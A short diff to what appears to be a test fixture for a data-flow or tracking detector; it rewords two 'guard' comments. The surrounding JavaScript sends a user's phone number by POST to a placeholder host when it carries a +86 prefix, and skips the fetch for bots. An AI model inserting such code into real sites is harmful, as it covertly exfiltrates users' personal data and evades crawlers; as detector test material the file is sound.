@@ -18,7 +18,7 @@ if (~navigator.userAgent.indexOf('Android')) navigator.sendBeacon('https://gio.g
 
 //# guard-negated-helper
 // flow: search > gnh.gd5.example via fetch
-// guard: not user-agent matches bot|crawl
+// guard: not user-agent contains bot | crawl
 const isBot4 = () => /bot|crawl/i.test(navigator.userAgent);
 function main4() {
   if (isBot4()) return void 0;
@@ -85,7 +85,7 @@ const noop11 = () => {};
 
 //# guard-phone-prefix-regex
 // flow: phone > gpr.gd5.example via fetch
-// guard: phone-prefix matches ^(\+86|0086)
+// guard: phone-prefix starts-with +86 | 0086
 const tel12 = document.querySelector('input[type=tel]').value;
 if (/^(\+86|0086)/.test(tel12)) fetch('https://gpr.gd5.example/', { method: 'POST', body: tel12 });
 
